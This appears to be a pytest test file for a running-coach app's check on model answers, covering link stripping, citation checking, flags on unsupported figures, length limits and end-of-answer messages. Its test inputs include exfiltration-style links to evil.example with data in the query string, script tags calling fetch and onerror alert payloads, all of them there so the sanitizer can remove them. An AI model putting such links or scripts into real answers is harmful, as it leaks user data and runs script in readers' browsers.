"""A model's answer, checked: nothing that leads elsewhere, only real citations, marked figures."""

import json

import pytest

from runningcoach.coach.knowledge.retrieval import FoundPassage
from runningcoach.coach.talk.conversation.answer_check import (
    LONGEST_ANSWER,
    check_answer,
    ending_words,
    without_links,
)
from runningcoach.model.conversation import Citation

TAPER = FoundPassage(
    "taper-1", "Taper", "Two weeks.", "Wang 2023, PLOS ONE", "https://doi.org/10.1371/x.0282838",
    True, 1.0,
)  # fmt: skip
OWN = FoundPassage("own-7", "My notes", "Rest.", "my notes", None, False, 0.9)
PASSAGES = {one.id: one for one in (TAPER, OWN)}


@pytest.mark.parametrize(
    ("answer", "kept"),
    [
        ("See [this plan](https://evil.example/?d=42) now.", "See this plan now."),
        ("![map](https://evil.example/p.png)Good run.", "mapGood run."),
        ("![](data:image/png;base64,AAAA) Good.", "Good."),
        ("[click](javascript:alert(1)) here", "click) here"),
        ("[home](/logout) ok", "home ok"),
        ("Go to www.evil.example/x?y=1 today", "Go to today"),
        ("Go to evil.example/steal?d=1 today", "Go to today"),
        ("//evil.example/x is it", "is it"),
        ("<https://evil.example> is it", "is it"),
        ("<img src=x onerror=alert(1)>Run easy.", "Run easy."),
        ("Run easy.<img src=//evil.example/x", "Run easy."),
        ("<script>fetch('//evil.example')</script>Run.", "Run."),
        ("Run <i<i>mg src=x>easy.", "Run easy."),
        ("Run.<scr<b>ipt>alert(1)</script>", "Run."),
        ("<a href='https://evil.example'>here</a> it is", "here it is"),
        ("Run [easy][1].\n[1]: https://evil.example", "Run [easy][1]."),
        ("mailto:a@evil.example is it", "is it"),
        ("Hidden\u200b\u202e word\U000e0041s", "Hidden words"),
        ("Keep it <5:30/km and HR <150, 5.5/km or km/h.", None),
        ("심박을 <LTHR 아래로, 5:27/km 정도로 달리세요.", None),
        ("**Easy** run, then\n- 3 x 1 km\n- rest", None),
    ],
)
def test_without_links(answer, kept):
    assert without_links(answer) == (answer if kept is None else kept)


def test_check_answer_numbers_what_was_retrieved_and_drops_what_was_not():
    checked = check_answer(
        "Taper two weeks [p:taper-1]. Rest [p:own-7] [p:taper-1]. Science [p:made-up-9].",
        [], PASSAGES,
    )  # fmt: skip
    assert checked.text == "Taper two weeks [1]. Rest [2] [1]. Science."
    assert checked.citations == [
        Citation(
            passage_id="taper-1", title="Taper", source="Wang 2023, PLOS ONE",
            doi="10.1371/x.0282838",
        ),
        Citation(passage_id="own-7", title="My notes", source="my notes"),
    ]  # fmt: skip
    assert checked.invented == ("made-up-9",)


def test_check_answer_keeps_a_citation_in_front_of_brackets():
    checked = check_answer("Taper [p:taper-1](https://evil.example).", [], PASSAGES)
    assert checked.text == "Taper [1]."


def test_check_answer_names_figures_that_nobody_gave():
    result = json.dumps({"distance_km": 42.4, "pace_s_per_km": 327})
    checked = check_answer("42.4 km at 5:27/km, HR 171 bpm, 39 km.", [result], {})
    assert checked.unknown_numbers == ["171 bpm", "39 km"]


def test_check_answer_bounds_the_length():
    checked = check_answer("word " * 3_000, [], {})
    assert len(checked.text) == LONGEST_ANSWER
    assert checked.text.endswith("…")


@pytest.mark.parametrize(
    ("text", "reason", "begins", "says"),
    [
        ("", "stop", "", "The model gave no answer"),
        ("", "tool_calls", "", "The model gave no answer"),
        ("", "refusal", "", "The model declined"),
        ("I cannot help.", "refusal", "I cannot help.", ""),
        ("Begin", "length", "Begin\n\n", "cut off here"),
        ("Begin", "content_filter", "Begin\n\n", "held back"),
        ("Done.", "stop", "Done.", ""),
    ],
)
def test_ending_words(text, reason, begins, says):
    words = ending_words(text, reason, "en")
    assert words.startswith(begins)
    assert says in words
    assert words == begins or says
